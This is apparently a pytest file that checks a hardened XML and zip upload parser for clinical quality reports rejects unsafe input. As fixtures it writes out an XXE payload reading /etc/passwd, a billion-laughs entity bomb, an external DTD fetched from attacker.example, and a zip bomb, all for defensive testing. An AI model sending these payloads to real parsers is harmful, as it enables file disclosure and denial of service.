from __future__ import annotations

import io
import zipfile

import pytest

from mips.qrda.safe_xml import UnsafeXmlError, expand_upload, parse_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&x;</title></ClinicalDocument>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]><lolz>&lol3;</lolz>"""

NETWORK_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"""


@pytest.mark.parametrize("payload", [XXE, LAUGHS, NETWORK_DTD])
def test_doctype_and_entities_are_refused(payload):
    with pytest.raises(UnsafeXmlError, match="DOCTYPE or ENTITY declaration is not allowed"):
        parse_xml(payload, name="evil.xml")


def test_doctype_hidden_in_utf16_is_refused():
    payload = "\ufeff" + XXE.decode().replace('<?xml version="1.0"?>', "")
    with pytest.raises(UnsafeXmlError, match="DOCTYPE"):
        parse_xml(payload.encode("utf-16"), name="evil16.xml")


def test_size_and_element_limits():
    with pytest.raises(UnsafeXmlError, match="limit is 100 bytes"):
        parse_xml(b"<r>" + b" " * 200 + b"</r>", name="big.xml", max_bytes=100)
    many = b"<r>" + b"<a/>" * 50 + b"</r>"
    with pytest.raises(UnsafeXmlError, match="more than 10 XML elements"):
        parse_xml(many, name="wide.xml", max_elements=10)
    assert parse_xml(many, name="ok.xml").getroot().tag == "r"


def test_malformed_and_empty():
    with pytest.raises(UnsafeXmlError, match="not well-formed"):
        parse_xml(b"<r><a></r>", name="bad.xml")
    with pytest.raises(UnsafeXmlError, match="empty"):
        parse_xml(b"   ", name="empty.xml")


def _zip(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_zip_members_are_extracted_and_other_files_skipped():
    raw = _zip(
        {"a.xml": b"<r/>", "dir/b.xml": b"<s/>", "readme.txt": b"hi", "__MACOSX/._a.xml": b"x"}
    )
    names = [d.name for d in expand_upload(raw, name="up.zip")]
    assert names == ["up.zip/a.xml", "up.zip/dir/b.xml"]


def test_zip_bomb_is_refused():
    bomb = _zip({"bomb.xml": b"<r>" + b"0" * 5_000_000 + b"</r>"})
    assert len(bomb) < 20_000
    with pytest.raises(UnsafeXmlError, match="zip bomb"):
        expand_upload(bomb, name="bomb.zip")


def test_zip_limits():
    with pytest.raises(UnsafeXmlError, match="entries; the limit is 2"):
        expand_upload(_zip({f"{i}.xml": b"<r/>" for i in range(3)}), name="many.zip", max_members=2)
    with pytest.raises(UnsafeXmlError, match="nested archive"):
        expand_upload(_zip({"inner.zip": _zip({"a.xml": b"<r/>"})}), name="nest.zip")
    with pytest.raises(UnsafeXmlError, match="no .xml files"):
        expand_upload(_zip({"a.txt": b"x"}), name="none.zip")
    with pytest.raises(UnsafeXmlError, match="not a readable zip"):
        expand_upload(b"PK\x03\x04garbage", name="broken.zip")


def test_plain_file_passes_through():
    assert expand_upload(b"<r/>", name="a.xml")[0].content == b"<r/>"
